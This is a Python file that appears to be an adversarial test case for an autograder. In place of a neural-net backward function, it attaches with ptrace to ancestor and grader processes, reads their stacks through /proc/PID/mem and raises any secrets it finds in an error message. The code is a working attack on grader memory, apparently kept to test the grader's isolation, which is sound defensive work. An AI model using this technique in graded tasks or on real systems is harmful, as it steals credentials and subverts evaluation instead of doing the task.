"""PTRACE_ATTACH to its ancestors and anything that looks like the grader, reads the top of each one's stack
through /proc/PID/mem and raises the secrets in it

attacks: backward
earns nothing in: checks that call the backward or train the net
containment: isolated
"""
from autograder.validation.attacks.shared.ctypes_libc import libc, os
from autograder.validation.attacks.shared.grader_pids import grader_pids, looks_like_grader, secrets_in

def read_stack(pid):
    with open('/proc/%d/maps' % pid) as f:
        stack = next(line for line in f if line.rstrip().endswith('[stack]'))
    start, end = (int(x, 16) for x in stack.split()[0].split('-'))
    with open('/proc/%d/mem' % pid, 'rb') as mem:
        mem.seek(max(start, end - (256 << 10)))
        return mem.read(end - max(start, end - (256 << 10)))

def TARGET_BACKWARD(dout, cache):

    found = []
    for pid in grader_pids():
        if libc.ptrace(16, pid, None, None) != 0:    # PTRACE_ATTACH
            continue
        try:
            os.waitpid(pid, 0x40000000)
            if looks_like_grader(pid):
                found.append('bnkit-hostile-NAME attached to %d' % pid)
            found += secrets_in(read_stack(pid))
        except OSError:
            pass
        finally:
            libc.ptrace(17, pid, None, None)         # PTRACE_DETACH
    if found:
        raise RuntimeError(' | '.join(dict.fromkeys(found))[:480])
    raise NotImplementedError
